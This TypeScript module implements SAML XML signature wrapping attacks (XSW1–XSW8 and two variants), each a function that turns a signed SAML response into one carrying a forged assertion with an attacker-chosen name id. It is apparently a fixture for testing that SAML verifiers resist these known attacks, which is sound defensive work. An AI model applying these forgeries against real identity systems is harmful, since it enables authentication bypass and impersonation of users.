/**
 * Known signature wrapping attacks, numbered as in "On Breaking SAML" (Somorovsky et al., 2012). Each attack moves the signed
 * element to a place where a verifier still finds it by its id, and puts a forged element in its place. Each function takes the
 * XML of a SAML response, and the name id that the forged assertion gets. The assertion in the response must be signed. For
 * XSW1 and XSW2, the response itself must be signed too.
 */
export const SIGNATURE_WRAPPINGS: Record<string, (xml: string, forgedName: string) => string> = {
  'XSW1: forged response around the signed one, in its signature'(xml, forgedName) {
    const signature = responseSignature(xml)
    const original = xml.replace(signature, '')
    const forged = forge(xml, forgedName).replace(/ID="[^"]+"/, 'ID="_forged-response"')
    return forged.replace(signature, signature.replace('</ds:Signature>', `${original}</ds:Signature>`))
  },
  'XSW2: forged response, the signed one detached before its signature'(xml, forgedName) {
    const signature = responseSignature(xml)
    const original = xml.replace(signature, '')
    const forged = forge(xml, forgedName).replace(/ID="[^"]+"/, 'ID="_forged-response"')
    return forged.replace(signature, original + signature)
  },
  'XSW3: forged assertion before the signed one': (xml, forgedName) =>
    withAssertion(xml, (signed) => forgedAssertion(signed, forgedName) + signed),
  'XSW3 reversed: forged assertion after the signed one': (xml, forgedName) =>
    withAssertion(xml, (signed) => signed + forgedAssertion(signed, forgedName)),
  'XSW4: signed assertion inside the forged one': (xml, forgedName) =>
    withAssertion(xml, (signed) =>
      forgedAssertion(signed, forgedName).replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
    ),
  'XSW5: signature in the forged assertion, the signed one after it': (xml, forgedName) =>
    withAssertion(xml, (signed) => resign(signed, forgedName, assertionSignature(signed)) + unsigned(signed)),
  'XSW6: signed assertion inside its signature, in the forged one': (xml, forgedName) =>
    withAssertion(xml, (signed) => {
      const signature = assertionSignature(signed).replace('</ds:Signature>', `${unsigned(signed)}</ds:Signature>`)
      return resign(signed, forgedName, signature)
    }),
  'XSW7: forged assertion of the same id in an extension': (xml, forgedName) =>
    withAssertion(
      xml,
      (signed) => `<samlp:Extensions>${forge(unsigned(signed), forgedName)}</samlp:Extensions>${signed}`,
    ),
  'XSW8: signed assertion in an object of the signature, in the forged one': (xml, forgedName) =>
    withAssertion(xml, (signed) => {
      const object = `<ds:Object>${unsigned(signed)}</ds:Object>`
      const signature = assertionSignature(signed).replace('</ds:Signature>', `${object}</ds:Signature>`)
      return resign(signed, forgedName, signature)
    }),
  'signed assertion in an extension, the forged one in its place': (xml, forgedName) =>
    withAssertion(
      xml,
      (signed) => `<samlp:Extensions>${signed}</samlp:Extensions>${forgedAssertion(signed, forgedName)}`,
    ),
  'forged assertion of the same id in its place, the signed one in an extension': (xml, forgedName) =>
    withAssertion(
      xml,
      (signed) => `<samlp:Extensions>${signed}</samlp:Extensions>${forge(unsigned(signed), forgedName)}`,
    ),
}

/** Returns the signature of the response. In the XML, it comes before the signature of the assertion. */
function responseSignature(xml: string): string {
  return match(xml, /<ds:Signature .*?<\/ds:Signature>/s)
}

function assertionSignature(assertion: string): string {
  return match(assertion, /<ds:Signature .*<\/ds:Signature>/s)
}

function unsigned(assertion: string): string {
  return assertion.replace(assertionSignature(assertion), '')
}

function withAssertion(xml: string, change: (assertion: string) => string): string {
  const assertion = match(xml, /<saml:Assertion .*<\/saml:Assertion>/s)
  return xml.replace(assertion, () => change(assertion))
}

function forge(xml: string, forgedName: string): string {
  return xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${forgedName}`)
}

function forgedAssertion(signed: string, forgedName: string): string {
  return forge(unsigned(signed), forgedName).replace(/ID="[^"]+"/, 'ID="_forged-assertion"')
}

function resign(signed: string, forgedName: string, signature: string): string {
  return forgedAssertion(signed, forgedName).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)
}

function match(text: string, pattern: RegExp): string {
  const found = pattern.exec(text)?.[0]
  if (!found) throw new Error(`the SAML response contains no match for ${pattern}`)
  return found
}
